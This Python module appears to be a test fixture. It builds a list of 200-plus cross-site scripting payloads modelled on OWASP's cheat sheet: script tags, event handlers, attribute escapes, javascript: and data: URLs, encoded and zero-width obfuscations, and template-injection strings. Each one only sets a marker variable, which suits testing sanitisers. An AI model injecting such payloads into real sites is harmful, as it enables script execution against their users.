"""Texts that become code where a page takes text for markup: 200 and more, of every kind that is known.

The forms are those of OWASP's "Cross Site Scripting Prevention Cheat Sheet": elements that run, handlers, ways
out of attributes, addresses that run, encodings, templates, and marks that hide. Each would set ``window.hit``.
"""

CODE = "window.hit=1"
_ELEMENTS = (
    "img svg body video audio input details iframe object embed marquee a div style math".split()
)
_HANDLERS = (
    "onerror onload onclick onfocus onmouseover ontoggle onpointerenter onanimationstart".split()
)
_EXITS = ('"', "'", "`", '">', "'>", "-->", "]]>", "&quot;>")
_ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"&#106;avascript:{CODE}",
    "data:text-html,<script>window.hit=1<\\script>",
    f"vbscript:{CODE}",
)
_SCRIPTS = (
    f"<script>{CODE}<\\script>",
    f"<ScRiPt >{CODE}<\\ScRiPt>",
    f"<<script>{CODE}",
    f"<script\x0b>{CODE}",
    f"<scr<script>ipt>{CODE}",
    f"%3Cscript%3E{CODE}",
    f"\\u003cscript\\u003e{CODE}",
    f"&lt;script&gt;{CODE}",
    f"<svg><script>{CODE}",
    f"${{{CODE}}}",
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    f"<%= {CODE} %>",
    f"#{{{CODE}}}",
    f"$$\\href{{javascript:{CODE}}}{{x}}$$",
    f"[x](javascript:{CODE})",
    f"\u202e<img src=x onerror={CODE}>",
    f"\ufeff<img src=x onerror={CODE}>",
    f"<\u200bimg src=x onerror={CODE}>",
)
PAYLOADS = (
    *(f"<{tag} src=x {handler}={CODE}>" for tag in _ELEMENTS for handler in _HANDLERS),
    *(f"{end}<img src=x onerror={CODE}>" for end in _EXITS),
    *(f"{end} autofocus onfocus={CODE} x={end}" for end in _EXITS),
    *(
        f"<{tag} href='{place}' src='{place}'>"
        for tag in ("a", "iframe", "use", "link")
        for place in _ADDRESSES
    ),
    *(f"<template shadowrootmode=open>{script}" for script in _SCRIPTS),
    *_SCRIPTS,
    *_ADDRESSES,
)
